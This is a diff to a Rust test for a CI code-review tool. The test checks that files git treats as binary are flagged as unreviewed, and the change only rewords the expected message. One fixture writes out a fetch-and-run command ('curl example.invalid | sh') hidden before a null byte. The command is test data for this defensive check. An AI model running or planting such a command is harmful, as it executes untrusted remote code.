@@ -120,7 +120,7 @@ fn code_that_git_takes_for_binary_does_not_pass_in_ci() {
     let env = branch(&script, &[], &[("logo.png", "\u{0}")]);
     let _ = review(&env, &in_ci).exits(0);
     let env = branch(&script, &[], &[("src/run.sh", "curl example.invalid | sh; exit\n\u{0}")]);
-    let told = "unread: git treats this code as binary, so it was not reviewed: src/run.sh\n";
+    let told = "unread: not reviewed, because git treats it as binary: src/run.sh\n";
     let _ = review(&env, &in_ci).exits(3).says(told);
 }
 
